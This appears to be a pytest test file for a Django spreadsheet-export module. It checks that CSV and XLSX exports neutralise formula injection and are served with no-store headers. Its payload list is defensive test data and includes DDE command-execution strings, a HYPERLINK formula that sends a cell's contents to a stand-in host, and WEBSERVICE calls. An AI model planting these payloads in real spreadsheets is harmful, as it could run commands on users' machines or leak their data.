"""No text, whoever typed it, is a formula in a spreadsheet; and what is exported stays in no cache."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html import unescape
from typing import Any
from urllib.parse import quote

import pytest
from django.http import Http404
from hypothesis import given
from hypothesis import strategies as st

from core.spreadsheets import FORMULA_SIGNS, Cell, Table, answer, as_csv, as_xlsx, harmless

PAYLOADS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://example.cn?x="&A1,"示例")', '=WEBSERVICE("http://example.cn")', "+1+1", "-1+1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "|cmd", "%0A=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹢1", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "\u200e=1+1", "\xa0=1+1", "\u2060\u3000＝1", '",=1+1,"', '";=1+1', "'=1+1",
    '=DDE("cmd";"/C calc";"x")', "=1+1\n=2+2",
]  # fmt: skip
_UNSEEN = " \t\r\n\u3000\ufeff\u200b\u200e\u2060\xa0"


def cells_of_csv(table: Table) -> list[str]:
    text = b"".join(as_csv(table)).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def cells_of_workbook(table: Table) -> list[str]:
    """The texts of the only sheet, as the file holds them. Fails when anything in it is a formula or a link."""
    with as_xlsx(table) as file:
        book = zipfile.ZipFile(file)
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet.replace("HYPERLINK", "").lower()
        assert not any("external" in name.lower() for name in book.namelist())
    plain = re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), sheet)
    return [unescape(text) for text in re.findall(r"<t(?: [^>]*)?>(.*?)</t>", plain, re.S)]


def assert_harmless(cells: list[str]) -> None:
    looks_like_one = [cell for cell in cells if cell.lstrip(_UNSEEN)[:1] in FORMULA_SIGNS and cell.strip()]
    assert looks_like_one == []


def assert_leaves_no_trace(response: Any, ending: str) -> None:
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert re.fullmatch(
        rf"attachment; filename\*=utf-8''[%A-Za-z0-9_-]+{re.escape(ending)}", response["Content-Disposition"]
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s7_a_payload_in_any_cell_is_text(payload: str) -> None:
    rows: list[list[Cell]] = [["项目", payload], [payload, 7], ["示例", payload]]
    for cells in (cells_of_csv(Table("示例", "表", rows)), cells_of_workbook(Table("示例", "表", rows))):
        assert sum(payload in cell for cell in cells) == 3
        assert_harmless(cells)


@given(st.text(max_size=30))
def test_s7_no_text_at_all_stays_a_formula(text: str) -> None:
    assert harmless(text).lstrip(_UNSEEN)[:1] not in FORMULA_SIGNS
    assert harmless(text).removeprefix("'") in (text, text.removeprefix("'"))


@given(st.text(alphabet="示例有限公司〔2026〕7号2.000000", max_size=30))
def test_ordinary_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_numbers_stay_numbers_and_what_excel_would_round_is_text() -> None:
    with as_xlsx(Table("示例", "表", [["数"], [-7], [12345678901234567890]])) as file:
        sheet = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>-7</v>" in sheet
    assert "12345678901234567890</t>" in sheet
    assert cells_of_csv(Table("示例", "表", [["数"], [-7]])) == ["数", "-7"]


def test_a_table_is_written_as_it_is_read() -> None:
    taken: list[int] = []

    def rows() -> Any:
        for number in range(3):
            taken.append(number)
            yield [number]

    lines = as_csv(Table("示例", "表", rows()))
    next(lines), next(lines)
    assert taken == [0]


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_the_answer_is_a_download_under_its_chinese_name(kind: str) -> None:
    made = answer(Table("示例表", "表", [["项目"]]), kind)
    assert_leaves_no_trace(made, f".{kind}")
    assert quote("示例表") in made["Content-Disposition"]
    made.close()


def test_another_kind_is_absent() -> None:
    with pytest.raises(Http404):
        answer(Table("示例", "表", []), "pdf")
